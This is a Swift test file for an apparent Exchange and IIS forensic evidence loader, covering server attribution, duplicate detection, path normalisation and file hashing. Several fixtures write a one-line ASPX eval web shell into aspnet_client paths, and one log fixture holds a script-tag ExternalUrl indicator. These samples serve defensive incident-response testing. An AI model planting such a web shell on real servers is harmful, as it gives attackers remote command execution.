import ExchangeEvidence
import Foundation
import Testing

@Suite struct EvidenceLoaderTests {
    static let row = "2021-03-03T06:00:01.000Z,EX99,/owa/,10.0.0.1,Outlook,200\r\n"
    static let header = "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n#Fields: DateTime,ServerHostName,UrlStem,ClientIpAddress,UserAgent,HttpStatus\r\n"

    @Test func serverComesFromTheCollectionLayout() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write(Self.header + Self.row, "EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/a.LOG", in: dir)
        Fixtures.write(Self.header + Self.row, "EX02/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/a.LOG", in: dir)
        Fixtures.write(Self.header + Self.row, "EX03/HttpProxy_2021030306-1.LOG", in: dir)
        let (store, report) = try Fixtures.load(dir.path)
        #expect(report.servers == ["EX01", "EX02", "EX03"])
        #expect(store.files.map(\.channel) == ["Owa", "Ecp", "EX03"])
    }

    @Test func withoutAServerFolderTheLogsNameTheServer() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write(Self.header + Self.row, "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/a.LOG", in: dir)
        Fixtures.write("#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time c-ip\r\n2021-03-03 06:00:00 1.2.3.4\r\n",
                       "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", in: dir)
        let (store, _) = try Fixtures.load(dir.path)
        #expect(store.files.map(\.server) == ["EX99", "EX99"], "files of one collection share the name the logs give")
    }

    @Test func aServerFolderLoadedDirectlyKeepsItsSideFolders() throws {
        let dir = Fixtures.tempDir().appendingPathComponent("EX02")
        Fixtures.write(Self.header + Self.row, "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/a.LOG", in: dir)
        Fixtures.write("ProductVersion FileVersion\r\n", "build/exsetup.txt", in: dir)
        let (store, report) = try Fixtures.load(dir.path)
        #expect(report.servers == ["EX99"], "not a server called 'build'")
        #expect(store.files.count == 2)
    }

    @Test func secondLoadOfTheSameFilesIsSkipped() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write(Self.header + Self.row, "EX01/a.LOG", in: dir)
        let store = EventStore()
        _ = try EvidenceLoader().load(dir.path, into: store)
        let again = try EvidenceLoader().load(dir.path, into: store)
        #expect(again.duplicatesSkipped == 1)
        #expect(store.count == 1)
        // The same file reached another way (one file of the folder loaded again): its path is relative to
        // another root, but it is the file already read.
        let direct = try EvidenceLoader().load(dir.appendingPathComponent("EX01/a.LOG").path, into: store)
        #expect(direct.duplicatesSkipped == 1)
        #expect(store.files.count == 1)
    }

    /// One server's collection in two sets, a folder name spelled composed in one (`Prüfung`, as Linux tools write
    /// it) and decomposed in the other (`u` and a combining mark, as macOS writes it): one path, so the second set
    /// adds nothing (reviewer: the byte hash of the merge's keys loaded it twice and doubled its findings).
    @Test func aPathComposedOrDecomposedIsOnePath() throws {
        let dir = Fixtures.tempDir()
        let listing = "\"FullName\",\"Length\"\r\n\"C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx\",\"10\"\r\n"
        Fixtures.write(listing, "m3/EX01/listings/Pr\u{00FC}fung/webfolders.csv", in: dir)
        Fixtures.write(listing, "m4/EX01/listings/Pru\u{0308}fung/webfolders.csv", in: dir)
        let store = EventStore()
        _ = try EvidenceLoader().load(dir.appendingPathComponent("m3").path, into: store)
        let second = try EvidenceLoader().load(dir.appendingPathComponent("m4").path, into: store)
        #expect(second.filesAdded == 0 && second.duplicatesSkipped == 1)
        #expect(store.files.count == 1)
    }

    /// A set inside a wrapping folder (what `zip -r set.zip set` holds): the server folders are the servers, also
    /// for files beside their Windows paths (`build/`), and the set loaded again unwrapped adds nothing (reviewer:
    /// the wrapper became a server with both servers' build files, and the web files loaded twice).
    @Test func aWrappingFolderIsNoServerAndItsContentIsTheSameSet() throws {
        let dir = Fixtures.tempDir()
        for server in ["EX01", "EX02"] {
            Fixtures.write(Self.header + Self.row, "ev1/\(server)/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/a.LOG", in: dir)
            Fixtures.write("ProductVersion   FileVersion\r\n--------------   -----------\r\n15.1.2176.9      15.01.2176.009\r\n",
                           "ev1/\(server)/build/exsetup-\(server).txt", in: dir)
            Fixtures.write("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
                           "ev1/\(server)/C/inetpub/wwwroot/aspnet_client/\(server).aspx", in: dir)
        }
        let store = EventStore()
        let wrapped = try EvidenceLoader().load(dir.path, into: store)
        #expect(wrapped.servers == ["EX01", "EX02"], "not a server 'ev1'")
        #expect(store.files.filter { $0.path.contains("/build/") }.map(\.server) == ["EX01", "EX02"])
        let again = try EvidenceLoader().load(dir.appendingPathComponent("ev1").path, into: store)
        #expect(again.filesAdded == 0 && again.duplicatesSkipped == 6)
    }

    /// A case folder holding one server's folder and a loose listing beside it: the listing is that server's, not a
    /// server named after the case folder (reviewer: the web shell's finding went to a server 'case17').
    @Test func looseFilesBesideTheOnlyServerFolderAreItsFiles() throws {
        let dir = Fixtures.tempDir().appendingPathComponent("case17")
        Fixtures.write(Self.header + Self.row, "EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/a.LOG", in: dir)
        Fixtures.write("\"FullName\",\"Length\"\r\n\"C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx\",\"10\"\r\n", "webdirs.csv", in: dir)
        let (store, report) = try Fixtures.load(dir.path)
        #expect(report.servers == ["EX01"] && store.files.map(\.server) == ["EX01", "EX01"])
    }

    /// One web shell dropped on two servers, each server's collection loaded on its own: the second is not a
    /// duplicate of the first (same path and SHA-256, another server), and loading a server again still is.
    @Test func identicalFilesOfTwoServersAreBothKept() throws {
        let dir = Fixtures.tempDir()
        for server in ["EXA", "EXB"] {
            Fixtures.write("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
                           "\(server)/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx", in: dir)
        }
        let store = EventStore()
        _ = try EvidenceLoader().load(dir.appendingPathComponent("EXA").path, into: store)
        let second = try EvidenceLoader().load(dir.appendingPathComponent("EXB").path, into: store)
        #expect(second.duplicatesSkipped == 0)
        #expect(store.files.map(\.server) == ["EXA", "EXB"])
        let again = try EvidenceLoader().load(dir.appendingPathComponent("EXB").path, into: store)
        #expect(again.duplicatesSkipped == 1)
        #expect(store.files.count == 2)
    }

    /// A log whose lines name one server, found byte for byte under another server's folder too (a copy filed
    /// under the wrong host, or two collections named differently): the folder names each file's server, so both
    /// are kept in either load order. Before, loading EXA first made EXB's copy "already loaded" (its lines name
    /// EXA), while the other order kept both (reviewer).
    @Test func aLogNamingAnotherServerIsKeptUnderItsFolderInEitherOrder() throws {
        let dir = Fixtures.tempDir()
        defer { try? FileManager.default.removeItem(at: dir) }
        let log = "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n"
            + "#Fields: TimeStamp,ServerName,EventId,EventData\n"
            + "2021-02-27T09:14:02.530Z,EXA,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script>'\n"
        for server in ["EXA", "EXB"] {
            Fixtures.write(log, "set\(server)/\(server)/C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210227-1.LOG", in: dir)
        }
        for order in [["EXA", "EXB"], ["EXB", "EXA"]] {
            let store = EventStore()
            let reports = try order.map { try EvidenceLoader().load(dir.appendingPathComponent("set" + $0).path, into: store) }
            #expect(reports.map(\.duplicatesSkipped) == [0, 0], "\(order)")
            #expect(store.files.map(\.server) == order)
            // Loading a set again is still nothing new.
            #expect(try EvidenceLoader().load(dir.appendingPathComponent("set" + order[1]).path, into: store).duplicatesSkipped == 1)
        }
    }

    /// An IIS log loaded on its own keeps its site as channel, from the folder it was read in.
    @Test func singleIISLogKeepsItsSite() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem "
                       + "cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
                       + "2021-03-05 17:27:45 10.0.0.11 GET /owa/ - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 5\n",
                       "inetpub/logs/LogFiles/W3SVC2/u_ex210305.log", in: dir)
        let (store, _) = try Fixtures.load(dir.appendingPathComponent("inetpub/logs/LogFiles/W3SVC2/u_ex210305.log").path)
        #expect(store.files.map(\.kind) == [.iis])
        #expect(store.files.map(\.channel) == ["W3SVC2"])
    }

    @Test func eventNumbersDoNotDependOnThreads() throws {
        let training = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("help/training").path
        let (a, _) = try Fixtures.load(training, workers: 1)
        let (b, _) = try Fixtures.load(training, workers: 2)
        #expect(a.count == b.count)
        #expect(a.count > 4000)
        #expect(a.time == b.time)
        #expect(a.files.map(\.sha256) == b.files.map(\.sha256))
    }

    @Test func cancellingKeepsWhatWasRead() throws {
        let dir = Fixtures.tempDir()
        for i in 0..<20 { Fixtures.write(Self.header + Self.row, "EX01/f\(i).LOG", in: dir) }
        let store = EventStore()
        var loader = EvidenceLoader(workers: 1)
        let calls = Counter()
        loader.isCancelled = { calls.increment() > 5 }
        let report = try loader.load(dir.path, into: store)
        #expect(report.cancelled)
        #expect(store.files.count == 5)
        #expect(store.count == 5)
    }

    @Test func sha256IsOfTheStoredBytes() throws {
        let dir = Fixtures.tempDir()
        Fixtures.write("abc", "EX01/notes.txt", in: dir)
        let (store, _) = try Fixtures.load(dir.path)
        #expect(store.files[0].sha256 == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        #expect(store.files[0].size == 3)
    }
}

final class Counter: @unchecked Sendable {
    private let lock = NSLock()
    private var n = 0
    func increment() -> Int { lock.lock(); defer { lock.unlock() }; n += 1; return n }
}
